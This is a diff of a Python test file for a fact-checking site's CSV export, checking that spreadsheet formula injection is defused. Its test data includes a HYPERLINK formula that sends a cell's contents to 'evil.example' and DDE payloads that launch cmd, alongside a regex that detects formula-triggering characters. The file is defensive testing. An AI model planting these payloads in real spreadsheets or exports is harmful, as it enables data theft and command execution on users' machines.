@@ -14,7 +14,6 @@ from hypothesis import strategies as st
 from factsite.cli import main
 from factsite.downloads import _csv_line, spreadsheet_safe, spreadsheet_value
 
-
 # What a spreadsheet evaluates (OWASP's list, after any spaces, and full-width forms), unless it is a number.
 EVALUATED = re.compile(r"[\t\r\n\0]|\s*[=+\-@＝＋－＠﹦﹢﹣﹫]")
 NUMBER = re.compile(r"-[0-9]+(\.[0-9]+)?")
@@ -46,7 +45,7 @@ def test_every_cell_is_quoted_and_quotes_inside_are_doubled() -> None:
 @pytest.mark.parametrize(
     "value",
     [
-        "=HYPERLINK(\"https://evil.example/?\"&A1)",
+        '=HYPERLINK("https://evil.example/?"&A1)',
         "+1",
         "-cmd|' /C calc'!A0",
         "-2+3+cmd|' /C calc'!A0",
@@ -89,13 +88,13 @@ def test_the_built_csv_defuses_hostile_claims_and_round_trips(site_root: Path, t
     path = site_root / "content/claims/river-bridge/ninety-days.yaml"
     text = path.read_text("utf-8").replace(
         "claim: The river bridge was closed for 90 days of repairs before June 1.",
-        "claim: \"=HYPERLINK(\\\"https://evil.example\\\", \\\"click\\\")\"",
+        'claim: "=HYPERLINK(\\"https://evil.example\\", \\"click\\")"',
     )
-    path.write_text(text.replace("claimant: The article", "claimant: \"@the,mayor\""), "utf-8")
+    path.write_text(text.replace("claimant: The article", 'claimant: "@the,mayor"'), "utf-8")
     out = tmp_path / "out"
     assert main(["--root", str(site_root), "build", "--out", str(out)]) == 0
     raw = (out / "downloads/claims.csv").read_text("utf-8")
-    assert "\"'=HYPERLINK(\"\"https://evil.example\"\", \"\"click\"\")\"" in raw
+    assert '"\'=HYPERLINK(""https://evil.example"", ""click"")"' in raw
     rows = list(csv.DictReader(io.StringIO(raw, newline="")))
     bridge = next(r for r in rows if r["id"] == "river-bridge/ninety-days")
     assert spreadsheet_value(bridge["claim"]) == '=HYPERLINK("https://evil.example", "click")'
